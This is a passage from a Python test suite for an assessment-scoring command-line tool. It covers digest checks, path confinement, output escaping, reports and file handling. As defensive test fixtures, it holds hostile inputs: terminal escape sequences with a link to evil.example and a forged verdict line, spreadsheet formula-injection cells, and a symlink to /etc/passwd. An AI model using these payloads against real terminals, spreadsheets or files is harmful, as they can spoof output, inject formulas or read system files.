    check(not any('E-WEB' in l or 'E-NODIGEST' in l for l in lines), 'absolute uris and records without digest skipped', r)
    check(lines[-1] == '5 checked: 2 ok, 1 missing, 1 changed, 1 refused; skipped 1 without a digest and 1 not '
          'under the root (absolute uri)', 'summary', r)
    r = expect(run('evidence', 'verify', f, '--catalogue', MINI_CAT, '-q'), 1, 'verify -q')
    check('ok ' not in r.out and 'CHANGED' in r.out, 'quiet shows only problems', r)

    # SHA-256 of files of awkward sizes against Python's hashlib
    root = work('evroot')
    shutil.rmtree(root, ignore_errors=True)
    os.makedirs(os.path.join(root, 'sub dir'))
    evidence = []
    for i, size in enumerate((0, 1, 55, 56, 63, 64, 65, 119, 120, 1000, 65536, 65537, 1 << 20)):
        blob = bytes((j * 7 + i) % 251 for j in range(size))
        name = 'sub dir/file-%d.bin' % size
        with open(os.path.join(root, name), 'wb') as fh:
            fh.write(blob)
        evidence.append({'id': 'F%d' % i, 'title': 'File of %d bytes' % size, 'kind': 'record',
                         'collected': '2026-01-01', 'uri': name.replace(' ', '%20'),
                         'sha256': hashlib.sha256(blob).hexdigest()})
    a = {'format': 'itsma-assessment/1', 'id': 'digests', 'catalogue': 'mini:1', 'date': '2026-03-01',
         'evidence': evidence}
    path = work('digests.json')
    with open(path, 'w') as fh:
        json.dump(a, fh)
    r = expect(run('evidence', 'verify', path, '--root', root, '--catalogue', MINI_CAT), 0, 'digests of many sizes')
    check(r.out.splitlines()[-1] == '13 checked: 13 ok, 0 missing, 0 changed', 'every digest matches', r)

    # confinement: links out of the root, /proc/kmsg, a FIFO, a folder, a device are reported,
    # never read (these used to hash /etc/passwd through the link, and hang on the FIFO)
    jail = work('evjail')
    shutil.rmtree(jail, ignore_errors=True)
    os.makedirs(os.path.join(jail, 'folder'))
    os.symlink('/etc', os.path.join(jail, 'etcdir'))
    os.symlink('/proc/kmsg', os.path.join(jail, 'kmsg'))
    os.mkfifo(os.path.join(jail, 'fifo'))
    with open(os.path.join(jail, 'ok.txt'), 'wb') as fh:
        fh.write(b'hello\n')
    passwd = hashlib.sha256(open('/etc/passwd', 'rb').read()).hexdigest()
    recs = [('OK', 'ok.txt', hashlib.sha256(b'hello\n').hexdigest()), ('ETC', 'etcdir/passwd', passwd),
            ('KMSG', 'kmsg', passwd), ('FIFO', 'fifo', passwd), ('DIR', 'folder', passwd),
            ('UP', '../evroot/x', passwd)]
    if os.geteuid() == 0:
        import stat
        os.mknod(os.path.join(jail, 'null'), 0o666 | stat.S_IFCHR, os.makedev(1, 3))
        recs.append(('DEV', 'null', passwd))
    a = {'format': 'itsma-assessment/1', 'id': 'jail', 'catalogue': 'mini:1', 'date': '2026-03-01',
         'evidence': [{'id': i, 'title': i, 'kind': 'record', 'collected': '2026-01-01', 'uri': u, 'sha256': h}
                      for i, u, h in recs]}
    path = work('jail.json')
    with open(path, 'w') as fh:
        json.dump(a, fh)
    r = expect(run('evidence', 'verify', path, '--root', jail, '--catalogue', MINI_CAT), 1, 'verify in a jail')
    lines = r.out.splitlines()
    check(any(l.startswith('ok ') and ' OK ' in l for l in lines), 'the regular file is checked', r)
    check(any(l.startswith('REFUSED   ETC ') and 'symbolic link' in l for l in lines), 'a link out of the root refused', r)
    check(any(l.startswith('REFUSED   KMSG ') for l in lines), 'a link to /proc/kmsg refused', r)
    check(any(l.startswith('NOT-FILE  FIFO ') and 'a FIFO, not a regular file' in l for l in lines), 'a FIFO named', r)
    check(any(l.startswith('NOT-FILE  DIR ') and 'a directory' in l for l in lines), 'a folder named', r)
    check(any(l.startswith('REFUSED   UP ') for l in lines), '.. refused', r)
    if os.geteuid() == 0:
        check(any(l.startswith('NOT-FILE  DEV ') and 'a character device' in l for l in lines), 'a device named', r)
    check(not any('No such file' in l for l in lines), 'nothing reported as missing', r)

    # nothing checkable (every uri absolute): exit 1 and say so
    a['evidence'] = [{'id': 'W', 'title': 'w', 'kind': 'record', 'collected': '2026-01-01',
                      'uri': 'https://example.org/w', 'sha256': passwd}]
    with open(path, 'w') as fh:
        json.dump(a, fh)
    r = expect(run('evidence', 'verify', path, '--root', jail, '--catalogue', MINI_CAT), 1, 'nothing checkable')
    check('nothing could be checked' in r.err, 'nothing checkable said', r)

    expect(run('evidence'), 2, 'evidence without subcommand')
    expect(run('evidence', 'check', f), 2, 'unknown subcommand')
    expect(run('evidence', 'verify'), 2, 'verify without a file')
    expect(run('evidence', 'verify', f, 'extra'), 2, 'extra argument')
    r = expect(run('evidence', 'verify', f), 1, 'catalogue missing')
    r = expect(run('evidence', 'verify', data('syntax-error.json')), 1, 'broken assessment')
    check(re.search(r'syntax-error\.json:5:3: ', r.err), 'error position', r)


# ---- output that cannot attack its reader (issue 19 section 4) ------------------------------------

ESC_CLEAR = '\x1b[2J\x1b[H'
OSC_TITLE = '\x1b]0;owned\x07'
OSC_LINK = '\x1b]8;;https://evil.example/\x1b\\'
FORGED = '\nVerdict          conformant\n'


def hostile_files():
    """A catalogue and two assessments whose free texts carry terminal escapes, a forged
    line, spreadsheet formulas and Markdown emphasis and autolinks."""
    cat = {
        'format': 'itsma-catalogue/1', 'id': 'hostile:1', 'title': 'Hostile' + ESC_CLEAR,
        'sections': [
            {'id': 'G', 'clause': '=1+2', 'title': 'Operations' + ESC_CLEAR + OSC_TITLE + FORGED + 'end',
             'sections': [
                 {'id': 'P', 'title': 'Process ' + OSC_LINK + 'link ' + 'x' * 60, 'kind': 'process',
                  'requirements': [
                      {'id': 'R1', 'clause': '@SUM(A1)', 'text': 'Keep\r' + ESC_CLEAR + 'records ' + 'y' * 40
                       + OSC_LINK + 'tail', 'obligation': 'shall'},
                      {'id': '_em_', 'clause': '-2-3', 'text': 'Emphasis id', 'obligation': 'shall'},
                      {'id': 'www.example.com', 'clause': '-5', 'text': 'Link id', 'obligation': 'should'},
                  ]}]}]}
    q = {'format': 'itsma-assessment/1', 'id': 'q2', 'catalogue': 'hostile:1', 'date': '2026-11-20',
         'title': 'Acme' + ESC_CLEAR + OSC_TITLE + FORGED + 'tail', 'organisation': 'Org\x07\x7f\u009b31m',
         'evidence': [{'id': 'EV', 'title': 'Evidence' + ESC_CLEAR, 'kind': 'document', 'collected': '2026-01-01'}],
         'ratings': [{'requirement': 'R1', 'rating': 'P', 'evidence': ['EV'], 'note': 'n' + ESC_CLEAR},
                     {'requirement': '_em_', 'rating': 'P', 'evidence': ['EV']}],
         'targets': {'level': 2}}
    q1 = dict(q, id='q1', date='2026-08-20', ratings=[{'requirement': 'R1', 'rating': 'L', 'evidence': ['EV']}])
    paths = []
    for name, doc in (('hostile-catalogue.json', cat), ('hostile-q2.json', q), ('hostile-q1.json', q1)):
        path = work(name)
        with open(path, 'w') as fh:
            json.dump(doc, fh)
        paths.append(path)
    return paths


def check_terminal_safe(text, what):
    bad = [c for c in text if (ord(c) < 0x20 and c != '\n') or 0x7f <= ord(c) <= 0x9f]
    check(not bad, '%s: no terminal control reaches the reader (found %r)' % (what, sorted(set(bad))))
    check(not re.search(r'^Verdict +conformant', text, re.M), '%s: a title does not forge a verdict line' % what)


def test_output_safety():
    cat, q2, q1 = hostile_files()
    for args in (('report', q2), ('report', q2, '--baseline', q1), ('compare', q1, q2, '--format', 'text'),
                 ('explain', q2, 'R1'), ('explain', q2, 'P'), ('explain', q2, 'G')):
        r = expect(run(*args, '--catalogue', cat), 0, ' '.join(args[:1]) + ' of a hostile assessment')
        check_terminal_safe(r.out, ' '.join(args[:1] + args[2:]))
        check('\\x1b' in r.out, '%s: the escape is shown, not run' % args[0], r)
    # on a terminal, only the report's own colours are escape sequences
    rc, out = run_tty('report', q2, '--catalogue', cat)
    check(rc == 0 and '\x1b[1m' in out, 'coloured on a terminal')
    check_terminal_safe(re.sub(r'\x1b\[[0-9]{1,2}m', '', out).replace('\r', ''), 'report on a terminal')
    # the column fitter cuts between characters, never inside an escape
    r = run('report', q2, '--catalogue', cat)
    for line in r.out.splitlines():
        check(not re.search(r'\\(x[0-9a-f]?|u[0-9a-f]{0,3})\u2026', line), 'no escape cut by the fitter: %r' % line)
    # error messages that quote a document
    r = expect(run('explain', q2, 'X' + ESC_CLEAR, '--catalogue', cat), 1, 'explain of an unknown id')
    check('\x1b' not in r.err, 'the error message shows no raw escape', r)
    bad = work('hostile-invalid.json')
    with open(bad, 'w') as fh:
        json.dump({'format': 'itsma-assessment/1', 'id': 'x', 'catalogue': 'iso20000-1:2018',
                   'date': '2026-01-01', ESC_CLEAR + 'key': 1,
                   'ratings': [{'requirement': OSC_TITLE, 'rating': 'F'}]}, fh)
    r = expect(run('validate', bad), 1, 'validate a document with hostile keys and values')
    check_terminal_safe(r.err, 'validate messages')
    check('/\\x1b[2J\\x1b[Hkey: unknown key "\\x1b[2J' in r.err, 'the key is shown escaped, pointer too', r)
    # CSV: formulas neutralised, numbers kept
    r = expect(run('report', q2, '--catalogue', cat, '--format', 'csv'), 0, 'csv of a hostile catalogue')
    rows = read_csv_text(r.out)
    by_id = {row[0]: row for row in rows[1:]}
    check(by_id['R1'][1] == "'@SUM(A1)", 'clause @SUM neutralised', by_id.get('R1'))
    check(by_id['_em_'][1] == "'-2-3", 'clause -2-3 neutralised', by_id.get('_em_'))
    check(by_id['www.example.com'][1] == '-5', 'a number stays a number', by_id.get('www.example.com'))
    check(',"\'@SUM(A1)",' in r.out, 'a neutralised cell is quoted', r)
    for row in rows[1:]:
        for cell in row:
            check(not cell or cell[0] not in '=+@\t\r' and not re.match(r'-(?![0-9.]+$)', cell),
                  'no CSV cell starts a formula: %r' % cell)
    # Markdown: ids escaped
    r = expect(run('report', q2, '--catalogue', cat, '--format', 'md'), 0, 'md of a hostile catalogue')
    check('_em_' not in r.out.replace('\\_em\\_', ''), 'the id _em_ is escaped', r)
    check('www.example' not in r.out and 'www\\.example.com' in r.out, 'the id www.example.com is no link', r)
    check_terminal_safe(r.out, 'md report')
    # HTML: the script runs by hash, nothing unsafe-inline
    r = expect(run('report', q2, '--catalogue', cat, '--format', 'html'), 0, 'html of a hostile catalogue')
    check_csp(r.out, 'html report')


def check_csp(page, what):
    m = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', page)
    check(m is not None, '%s: a Content-Security-Policy' % what)
    if not m:
        return
    csp = m.group(1)
    check('unsafe-inline' not in csp, '%s: no unsafe-inline in %r' % (what, csp))
    for tag, directive in (('script', 'script-src'), ('style', 'style-src')):
        bodies = re.findall(r'<%s>(.*?)</%s>' % (tag, tag), page, re.S)
        check(len(bodies) == 1, '%s: one <%s> element' % (what, tag))
        digest = base64.b64encode(hashlib.sha256(bodies[0].encode('utf-8')).digest()).decode()
        check("%s 'sha256-%s'" % (directive, digest) in csp,
              '%s: %s allows the inline %s by its hash %s (%r)' % (what, directive, tag, digest, csp))


# ---- trend -------------------------------------------------------------------------------------------

def test_trend():
    quarters = [src('examples', 'data', 'acme-2026-q%d.json' % q) for q in (1, 2, 3, 4)]
    r = expect(run('trend', *quarters), 0, 'trend of four quarters')
    check(r.out.startswith('Trend of 4 assessments: ISO/IEC 20000-1:2018'), 'trend heading', r)
    check(re.search(r'^acme-2026-q4 +2026-11-20  nonconformant +68\.3% +68\.6% +64\.2% +37 +304 +0 +45$',
                    r.out, re.M), 'the last quarter with its opened and closed nonconformities', r)
    check(re.search(r'^  8\.6\.1 +Incident management +1 \u2192 1 \u2192 1 \u2192 3   \(3\)$', r.out, re.M),
          'incident management over four quarters', r)
    check('Requirements that regressed more than once (7)' in r.out and '  9.2-07       2 times' in r.out,
          'requirements that regressed twice', r)
    r = expect(run('trend', *quarters, '--format', 'csv'), 0, 'trend csv')
    rows = read_csv_text(r.out)
    check(len(rows) == 5 and rows[0][:4] == ['assessment', 'date', 'verdict', 'overall'], 'one row per quarter', rows)
    check([row[1] for row in rows[1:]] == ['2026-02-20', '2026-05-20', '2026-08-20', '2026-11-20'], 'dates', rows)
    out = work('trend.html')
    expect(run('trend', *quarters, '-o', out), 0, 'trend html by extension')
    page = open(out, encoding='utf-8').read()
    check(page.startswith('<!DOCTYPE html>') and page.count('<polyline') == 3, 'three lines in the chart')
    check_csp(page, 'trend page')
    p = Page()
    p.feed(page)
    check_self_contained(p, 'trend page')
    r = expect(run('trend', *quarters, '--format', 'md'), 0, 'trend md')
    check('| `acme-2026-q1` | 2026-02-20 | nonconformant | 33.2% |' in r.out, 'md row', r)
    r = expect(run('trend', quarters[3], quarters[2]), 1, 'out of order')
    check('oldest first' in r.err and 'acme-2026-q3' in r.err, 'the order is explained', r)
    expect(run('trend'), 2, 'no assessment')
    expect(run('trend', quarters[0], '--format', 'pdf'), 2, 'bad format')
    r = expect(run('trend', quarters[0], other_catalogue_assessment()), 1, 'two catalogues')
    check('iso20000-1:2011' in r.err, 'both catalogue ids named', r)
    r = expect(run('trend', '--help'), 0, 'trend --help')
    check(r.out.startswith('Usage: itsma trend'), 'trend help', r)
# ---- files: -o never destroys what it names; reads are bounded ------------------------------

def test_files():
    """-o replaces only regular files (keeping their mode); devices, FIFOs and /dev/std* are
    written into; a symlink stays a link; inputs that are devices are refused."""
    import stat
    import threading
    d = work('files')
    shutil.rmtree(d, ignore_errors=True)
    os.makedirs(d)
    want = expect(run('score', Q4), 0, 'score').out

    # a private character device with /dev/null's numbers (as root): still a device after -o
    if os.geteuid() == 0:
        dev = os.path.join(d, 'null')
        os.mknod(dev, 0o666 | stat.S_IFCHR, os.makedev(1, 3))
        expect(run('score', Q4, '-o', dev), 0, '-o a character device')
        check(stat.S_ISCHR(os.lstat(dev).st_mode) and os.lstat(dev).st_rdev == os.makedev(1, 3),
              '-o keeps a character device a device (it was replaced by a regular file)')
        check(not [n for n in os.listdir(d) if n.startswith('null.')], 'no temporary file left beside a device')
    else:
        print('not root: the mknod case is skipped')

    # a FIFO: the reader gets the bytes, and the FIFO stays a FIFO
    fifo = os.path.join(d, 'fifo')
    os.mkfifo(fifo)
    got = []
    reader = threading.Thread(target=lambda: got.append(open(fifo, 'rb').read()))
    reader.start()
    r = expect(run('score', Q4, '-o', fifo), 0, '-o a FIFO')
    reader.join(30)
    check(stat.S_ISFIFO(os.lstat(fifo).st_mode), '-o keeps a FIFO a FIFO', r)
    check(got and got[0].decode() == want, 'the FIFO reader gets the JSON', r)

    # /dev/stdout (a symlink into /proc/self/fd) writes to standard output
    r = expect(run('score', Q4, '-o', '/dev/stdout'), 0, '-o /dev/stdout')
    check(r.out == want, '-o /dev/stdout writes to standard output', r)
    with open(os.path.join(d, 'captured'), 'w') as fh:
        p = subprocess.run([ARGS.itsma, 'score', Q4, '-o', '/dev/stdout'], stdout=fh, stderr=subprocess.PIPE)
    check(p.returncode == 0 and open(os.path.join(d, 'captured')).read() == want and
          not [n for n in os.listdir(d) if n.startswith('captured.')],
          '-o /dev/stdout redirected to a file writes into that file, never renames over it', p.stderr)

    # modes of a replaced file are kept
    for mode in (0o600, 0o640, 0o444):
        f = os.path.join(d, 'mode-%o.json' % mode)
        with open(f, 'w') as fh:
            fh.write('old')
        os.chmod(f, mode)
        expect(run('score', Q4, '-o', f), 0, '-o over a %o file' % mode)
        check(stat.S_IMODE(os.stat(f).st_mode) == mode, '-o keeps mode %o (got %o)' % (mode, stat.S_IMODE(os.stat(f).st_mode)))
        check(open(f).read() == want, 'the %o file holds the new JSON' % mode)

    # a symlink stays a link; the file it points to is replaced, in its own folder
    os.makedirs(os.path.join(d, 'real'))
    target = os.path.join(d, 'real', 'report.json')
    with open(target, 'w') as fh:
        fh.write('old')
    link = os.path.join(d, 'latest.json')
    os.symlink(os.path.join('real', 'report.json'), link)
    expect(run('score', Q4, '-o', link), 0, '-o a symlink')
    check(os.path.islink(link) and open(target).read() == want, 'the link stays, its target is replaced')
    dangling = os.path.join(d, 'next.json')
    os.symlink(os.path.join('real', 'next.json'), dangling)
    expect(run('score', Q4, '-o', dangling), 0, '-o a dangling symlink')
    check(os.path.islink(dangling) and open(os.path.join(d, 'real', 'next.json')).read() == want,
          'a dangling link gets its target created')
    check(sorted(os.listdir(os.path.join(d, 'real'))) == ['next.json', 'report.json'], 'no temporary files left')

    # a directory and a socket are refused and left alone
    r = expect(run('score', Q4, '-o', d), 1, '-o a directory')
    check('it is a directory' in r.err, 'directory named as such', r)
    import socket
    sock_path = os.path.join(d, 'sock')
    sk = socket.socket(socket.AF_UNIX)
    sk.bind(sock_path)
    r = expect(run('score', Q4, '-o', sock_path), 1, '-o a socket')
    check('it is a socket' in r.err and stat.S_ISSOCK(os.lstat(sock_path).st_mode), 'a socket is left alone', r)
    sk.close()

    # a failing write leaves no temporary file (a read-only folder: the temporary cannot be made)
    if os.geteuid() != 0:
        ro = os.path.join(d, 'ro')
        os.makedirs(ro)
        os.chmod(ro, 0o555)
        expect(run('score', Q4, '-o', os.path.join(ro, 'x.json')), 1, '-o into a read-only folder')
        check(os.listdir(ro) == [], 'nothing left in a read-only folder')
    full = '/dev/full'
    if os.path.exists(full):
        r = expect(run('score', Q4, '-o', full), 1, '-o /dev/full')
        check('No space left' in r.err and stat.S_ISCHR(os.lstat(full).st_mode), '/dev/full reports ENOSPC', r)

    # a built-in id means the built-in, even beside a file of that name in the current folder
    # (a doctored copy used to replace it silently); ./NAME loads the file
    cwd = os.path.join(d, 'cwd')
    os.makedirs(cwd)
    doctored = json.load(open(MINI_CAT))
    doctored['id'] = 'iso20000-1:2018'
    with open(os.path.join(cwd, 'iso20000-1:2018'), 'w') as fh:
        json.dump(doctored, fh)
    r = expect(run('score', '--catalogue', 'iso20000-1:2018', Q4, cwd=cwd), 0, 'built-in id beside a file of that name')
    check(r.out == want and "'iso20000-1:2018' is the built-in catalogue" in r.err and './iso20000-1:2018' in r.err,
          'the built-in is used, and the file named', r)
    builtin_json = expect(run('catalogue', 'show', 'iso20000-1:2018', '--format', 'json'), 0, 'show built-in').out
    r = expect(run('catalogue', 'show', 'iso20000-1:2018', '--format', 'json', cwd=cwd), 0, 'show beside a file')
    check(r.out == builtin_json, 'catalogue show gives the built-in beside a file of that name', r)
    r = expect(run('score', '--catalogue', './iso20000-1:2018', Q4, cwd=cwd), 1, './NAME loads the file')
    check('is the built-in' not in r.err, 'no warning for an explicit path', r)
    shutil.copy(MINI_CAT, os.path.join(cwd, 'minicat'))
    r = expect(run('score', '--catalogue', 'minicat', MINI, cwd=cwd), 0, 'a file without a path-like name')
    check("no built-in catalogue is called 'minicat'" in r.err, 'the ambiguity is warned about', r)
    r = expect(run('score', '--catalogue', 'nosuch', MINI, cwd=cwd), 1, 'neither file nor built-in')
    check('no such file, and no built-in catalogue has that id' in r.err, 'unknown catalogue named', r)

    # validate: catalogues on the command line serve the assessments that name them (the
    # library's resolver, no JSON peeking in the CLI); order does not matter
    r = expect(run('validate', MINI, MINI_CAT), 0, 'validate assessment before its catalogue')
    check('mini-assessment.json: valid itsma-assessment/1' in r.out, 'resolved through the resolver', r)
    r = expect(run('validate', MINI), 1, 'validate without its catalogue')

    # inputs: devices are refused before a byte is read, for every command that reads a document
    for args in (['validate', '/dev/zero'], ['score', '/dev/zero'], ['report', '/dev/zero'],
                 ['explain', '/dev/zero', '8.4.3-01'], ['evidence', 'verify', '/dev/zero']):
        r = expect(run(*args), 1, ' '.join(args))
        check('it is a character device' in r.err, '%s refused as a device' % ' '.join(args), r)
    r = expect(run('compare', '/dev/zero', Q4), 1, 'compare /dev/zero')
    check('it is a character device' in r.err, 'compare /dev/zero refused', r)
    r = expect(run('score', '--catalogue', '/dev/zero', Q4), 1, '--catalogue /dev/zero')
    check('it is a character device' in r.err, '--catalogue /dev/zero refused', r)

    # "-" is standard input for every command that reads a document
    q4 = open(Q4).read()
    check(expect(run('score', '-', input=q4), 0, 'score -').out == want, 'score - reads standard input')
    expect(run('validate', '-', input=q4), 0, 'validate -')
    r = expect(run('report', '-', input=q4), 0, 'report -')
    check('acme-2026-q4' in r.out, 'report - reads standard input', r)
    expect(run('explain', '-', '8.4.3-01', input=q4), 0, 'explain -')
    expect(run('compare', Q3, '-', input=q4), 0, 'compare - (after)')
    r = expect(run('score', '--catalogue', '-', MINI, input=open(MINI_CAT).read()), 0, '--catalogue -')
    check(json.loads(r.out)['format'] == 'itsma-result/1', '--catalogue - reads standard input', r)
    r = expect(run('compare', '-', '-', input=q4), 2, 'standard input named twice')
    expect(run('report', '-', '--baseline', '-', input=q4), 2, 'report and baseline both from standard input')
    expect(run('import', '-', '--evidence', '-', '--catalogue', 'iso20000-1:2018', '--id', 'x', '--date',
               '2026-01-01', input=''), 2, 'import: questionnaire and evidence both from standard input')
    r = expect(run('report', Q4, '--baseline', '-', input=open(Q3).read()), 0, 'report --baseline -')
    r = expect(run('score', '-', input='{"format": '), 1, 'syntax error on standard input')
    check(r.err.startswith('<stdin>:1:'), 'standard input named <stdin> in errors', r)


# ---- the C examples ----------------------------------------------------------------------------------

def test_examples():
    if not ARGS.examples:
        print('C examples not built; skipped')
        return
    ex = lambda name: os.path.join(ARGS.examples, name)
    r = expect(run(Q4, binary=ex('score_gaps')), 0, 'score_gaps')
    check(r.out.startswith('acme-2026-q4 (2026-11-20): nonconformant\noverall compliance 68.3%'), 'score_gaps output', r)
    check(r.out.count('\n') == 3 + 5 and '1. 8.2.5-02' in r.out, 'five gaps', r)
    expect(run(binary=ex('score_gaps')), 2, 'score_gaps usage')
    r = expect(run(data('schema-error.json'), binary=ex('score_gaps')), 1, 'score_gaps on a bad file')
    check(':7:44: /ratings/0/rating: ' in r.err, 'score_gaps error position', r)
    r = expect(run(Q3, Q4, binary=ex('compare_two')), 0, 'compare_two')
    check('overall compliance: 49.2% -> 68.3% (+19.1 points)' in r.out and 'process 8.6.1: level 1 -> 3' in r.out,
          'compare_two output', r)
    out = work('built.json')
    r = expect(run(out, binary=ex('build_assessment')), 0, 'build_assessment')
    expect(run('validate', out), 0, 'the built assessment is valid')
    a = json.load(open(out))
    check(len(a['ratings']) == 8 and len(a['evidence']) == 4, 'ratings and evidence from the export', a)
    r = expect(run(data('evidence-assessment.json'), os.path.dirname(data('evidence-assessment.json')), MINI_CAT,
                   binary=ex('verify_evidence')), 1, 'verify_evidence with a changed file')
    check('ok            E-OK: evidence/policy.txt' in r.out and 'changed       E-TAMPERED: ' in r.out and
          'refused       E-ESCAPE: ' in r.out and 'missing       E-MISSING: ' in r.out, 'verify_evidence output', r)
    expect(run(binary=ex('verify_evidence')), 2, 'verify_evidence usage')
    r = expect(run(binary=ex('build_assessment')), 0, 'build_assessment to stdout')
    check(json.loads(r.out)['id'] == 'itsm-export-2026-11', 'json on stdout', r)
    # questionnaire: write the sheets through a callback, fill one row, import them back
    qpath, epath = work('ex-q.csv'), work('ex-e.csv')
    r = expect(run('write', qpath, epath, binary=ex('questionnaire')), 0, 'questionnaire write')
    rows = read_csv_text(open(qpath, encoding='utf-8-sig').read())
    check(rows[0][:2] == ['type', 'id'] and [x[6] for x in rows if x[0] == 'target'] == ['2'] * 21,
          'the written questionnaire, targets filled', rows[:2])
    for row in rows:
        if row[1] == '8.6.1-01':
            row[6], row[7] = 'L', 'EV-1'
    write_csv(qpath, rows)
    write_csv(epath, [['id', 'title', 'kind', 'collected'], ['EV-1', 'Incident procedure', 'document', '2026-10-01']])
    r = expect(run('import', qpath, epath, binary=ex('questionnaire')), 0, 'questionnaire import')
    check(r.out.startswith('1 ratings, 0 process attributes, 1 evidence records: '), 'imported', r)
    write_csv(epath, [['id', 'title', 'kind', 'collected'], ['EV-1', 'Incident procedure', 'document', '2026-10-32']])
    r = expect(run('import', qpath, epath, binary=ex('questionnaire')), 1, 'questionnaire import with a bad date')
    check('%s:2:' % epath in r.err and '2 problems; nothing imported' in r.err, 'problems with positions', r)
    r = expect(run(Q4, Q3, binary=ex('html_report')), 0, 'html_report')
    cli = expect(run('report', Q4, '--baseline', Q3, '--format', 'html', '--top', '15'), 0, 'the same report')
    check(r.out == cli.out, 'html_report writes the bytes of itsma report --format html', r)
    expect(run(binary=ex('html_report')), 2, 'html_report usage')
    for args in ((), ('--text',), ('--weights',), ('--text', '--weights')):
        r = expect(run(*args, 'iso20000-1:2011', binary=ex('checklist')), 0, 'checklist %s' % ' '.join(args))
        cli = run('catalogue', 'show', 'iso20000-1:2011', *(('--format', 'text') if '--text' in args else ()),
                  *(('--weights',) if '--weights' in args else ()))
        check(r.out == cli.out, 'checklist writes the bytes of itsma catalogue show %s' % ' '.join(args), r)
    expect(run('no-such:catalogue', binary=ex('checklist')), 1, 'checklist of an unknown catalogue')
    expect(run('--pdf', binary=ex('checklist')), 2, 'checklist usage')
    quarters = [src('examples', 'data', 'acme-2026-q%d.json' % q) for q in (1, 2, 3, 4)]
    r = expect(run(*quarters, binary=ex('trend')), 0, 'trend example')
    check('2026-11-20  nonconformant   68.3%  nonconformities: 0 opened, 45 closed' in r.out
          and 'process 8.6.1: level 1 -> 3' in r.out and '9.2-07 regressed 2 times' in r.out, 'trend example output', r)
    r = expect(run('--md', *quarters, binary=ex('trend')), 0, 'trend example --md')
    check(r.out == run('trend', *quarters, '--format', 'md').out, 'the Markdown of itsma trend', r)
    expect(run(quarters[1], quarters[0], binary=ex('trend')), 1, 'trend example out of order')
    expect(run(data('schema-error.json'), binary=ex('html_report')), 1, 'html_report on a bad file')


OSCAL_PARTS = ('tests', 'data', 'oscal')  # NIST's public-domain OSCAL files (README there)
M_NS = '{http://csrc.nist.gov/ns/oscal/metaschema/1.0}'


def metaschema_required():
    """Required JSON keys of every definition, derived from the metaschema XML: a child with
    min-occurs="1" (flags: required="yes"), named by its group-as name when it repeats."""
    import xml.etree.ElementTree as ET
    req = {}
    folder = os.environ.get('ITSMA_OSCAL_DIR', src(*OSCAL_PARTS, 'metaschema'))
    if not os.path.isdir(folder):
        return None

    def direct(d, out):
        for el in d:
            tag = el.tag.replace(M_NS, '')
            if tag == 'model':
                direct(el, out)
                continue
            if tag in ('choice',):
                continue
            if tag not in ('flag', 'field', 'assembly', 'define-flag', 'define-field', 'define-assembly'):
                continue
            name = el.get('ref') or el.get('name')
            if el.get('min-occurs') == '1' or el.get('required') == 'yes':
                g = el.find(M_NS + 'group-as')
                u = el.find(M_NS + 'use-name')
                out.add(g.get('name') if g is not None else u.text if u is not None else name)
            if tag.startswith('define-'):
                sub = set()
                direct(el, sub)
                req.setdefault(name, sub)
    for f in sorted(os.listdir(folder)):
        import re
        text = open(os.path.join(folder, f), encoding='utf-8').read()
        text = re.sub(r'<!DOCTYPE[^\[>]*(\[.*?\])?\s*>', '', text, flags=re.S)
        text = re.sub(r'&(?!lt;|gt;|amp;|quot;|apos;|#)[A-Za-z][\w.-]*;', '', text)
        root = ET.fromstring(text)
        for d in root:
            tag = d.tag.replace(M_NS, '')
            if tag in ('define-assembly', 'define-field'):
                out = set()
                direct(d, out)
                req[d.get('name')] = out
    return req


def check_required(obj, definition, req, path):
    for k in sorted(req.get(definition, ())):
        check(k in obj, '%s: required key %s of %s missing' % (path, k, definition))


def test_interop():
    """OSCAL and CISO Assistant: import, export, round trip (docs/interop.md)."""
    low = os.path.join(src(*OSCAL_PARTS), 'examples', 'NIST_SP-800-53_rev5_LOW-baseline-resolved-profile_catalog-min.json')
    os.makedirs(work(), exist_ok=True)
    # an input that cannot be read is invalid input, status 1 (it was 255, -1 passed on as a status)
    for cmd in (('import-catalogue', '--from', 'oscal'), ('mapping', 'import', '--from', 'oscal')):
        r = expect(run(*cmd, work('no-such-file.json')), 1, '%s of a missing file' % cmd[0])
        check('no-such-file.json' in r.err, 'the missing file is named', r)
    if os.path.exists(low):
        r = expect(run('import-catalogue', '--from', 'oscal', low, '-o', work('low.json')), 0, 'import SP 800-53 LOW')
        expect(run('validate', work('low.json')), 0, 'the LOW catalogue validates')
        cat = json.load(open(work('low.json')))
        ac1 = cat['sections'][0]['requirements'][0]
        check(ac1['id'] == 'ac-1' and ac1['clause'] == 'AC-1', 'ac-1 keeps its id and label', ac1)
        check('[Assignment: organization-defined personnel or roles]' in ac1['text'], 'params inserted', ac1['text'])
        check('[Selection (one or more): organization-level' in ac1['text'], 'selections inserted')
        check('x-oscal-guidance' in ac1, 'guidance kept as x-oscal-guidance')
        ids = []
        def walk(sec):
            for q in sec.get('requirements', []):
                ids.append(q['id'])
            for t in sec.get('sections', []):
                walk(t)
        for sec in cat['sections']:
            walk(sec)
        check(len(ids) == len(set(ids)) and len(ids) > 140, 'every LOW control is a requirement', len(ids))
        # a generated assessment of it scores
        a = {'format': 'itsma-assessment/1', 'id': 'low-1', 'catalogue': cat['id'], 'date': '2026-11-20',
             'evidence': [{'id': 'EV-1', 'title': 'Policy =SUM(A1)', 'kind': 'document', 'collected': '2026-10-01',
                           'uri': 'https://example.org/p.pdf', 'sha256': 'a' * 64}],
             'ratings': [{'requirement': i, 'rating': ['F', 'L', 'P', 'N'][n % 4], 'evidence': ['EV-1']}
                         for n, i in enumerate(ids[:40])]}
        json.dump(a, open(work('low-a.json'), 'w'))
        r = expect(run('score', work('low-a.json'), '--catalogue', work('low.json')), 0, 'score LOW')
        r = expect(run('export', '--to', 'oscal-ar', work('low-a.json'), '--catalogue', work('low.json'),
                       '-o', work('low-ar.json')), 0, 'OSCAL AR of LOW')
        ar = json.load(open(work('low-ar.json')))['assessment-results']
        f0 = ar['results'][0]['findings'][0]
        check(f0['target']['target-id'] == 'ac-1_smt', 'OSCAL ids come back in findings', f0['target'])
        r = expect(run('export', '--to', 'ciso-audit-csv', work('low-a.json'), '--catalogue', work('low.json')), 0, 'audit CSV')
        check('"\'=SUM(A1)' not in r.out and '[EV-1] Policy =SUM(A1)' in r.out, 'evidence title inside a cell is text')
    # fixtures: nesting, params, withdrawn, versions, unknown keys
    r = expect(run('import-catalogue', '--from', 'oscal', data('oscal-nested.json')), 0, 'nested fixture')
    c = json.loads(r.out)
    check('not a key of a control' in r.err, 'unknown keys warned', r.err)
